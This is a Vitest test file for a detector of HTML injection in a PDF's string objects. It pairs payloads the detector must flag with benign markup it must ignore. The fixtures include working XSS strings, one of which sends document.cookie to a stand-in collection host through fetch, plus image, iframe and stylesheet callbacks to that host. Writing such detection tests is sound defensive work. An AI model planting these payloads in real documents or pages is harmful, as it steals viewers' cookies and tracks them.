// Markup made to run in a web viewer's page is found in any string of the document; rich text, links
// and ordinary comments that mention angle brackets are not.
import { describe, expect, it } from "vitest";
import { collectHtmlInjections } from "./html-injection";

const found = (text: string) => collectHtmlInjections(new Map([["7 0 R", text]]));

describe("HTML injection in a document's strings", () => {
  it.each([
    ["an attribute break-out with an event handler", `\\">'><details open ontoggle=confirm(3)>`],
    ["an image whose load error runs code", `Reviewer"><img src=x onerror=alert(1)>`],
    ["an SVG with onload after a slash", `<svg/onload=fetch('https://collect.example/'+document.cookie)>`],
    ["a script element", "Invoice 2026-041<script>alert(1)</script>"],
    ["an iframe", `<iframe src="https://collect.example/">`],
    ["a javascript: URL in an attribute", `<a href = " javascript:alert(1)">x</a>`],
    ["upper case", "<IMG SRC=x ONERROR=alert(1)>"],
    // the callback of an injection test: the viewer's page fetches the image (CVE-2025-70401, an annotation's author)
    ["an image loaded from a server", `<img src="https://collect.example/t43-annot">`],
    ["a protocol-relative stylesheet link", `</title><link rel=stylesheet href=//collect.example/x.css>`],
    ["a meta refresh", `<meta http-equiv="refresh" content="0; url=https://collect.example/">`],
  ])("finds %s", (_name, text) => {
    const [hit] = found(text);
    expect(hit.objectRef).toBe("7 0 R");
    expect(hit.excerpt.length).toBeGreaterThan(0);
  });

  it.each([
    [
      "XHTML rich text (/RC)",
      `<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml" xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/" xfa:APIVersion="Acrobat:11.0.0" xfa:spec="2.0.2"><p dir="ltr"><span style="font-size:10.0pt">Please sign <b>here</b></span></p></body>`,
    ],
    ["a comparison in a comment", "if a < b and c > d, the total is wrong"],
    ["a mail address in brackets", "Jane Doe <jane.doe@example.com>"],
    ["a link without script", `<a href="https://example.com/report">report</a>`],
    ["an attribute named like a handler without '='", "<p>turn online ordering on</p>"],
    ["an image from the document's own folder", `<img src="logo.png" alt="logo">`],
  ])("finds nothing in %s", (_name, text) => {
    expect(found(text)).toEqual([]);
  });

  it("keeps the text before the markup in the excerpt, and one fact per object", () => {
    const hits = collectHtmlInjections(
      new Map([
        ["3 0 R", `Name: x"><img src=1 onerror=a()> and <script>b()</script>`],
        ["4 0 R", "plain"],
      ]),
    );
    expect(hits).toHaveLength(1);
    expect(hits[0].excerpt).toContain(`x"><img src=1 onerror`);
  });
});
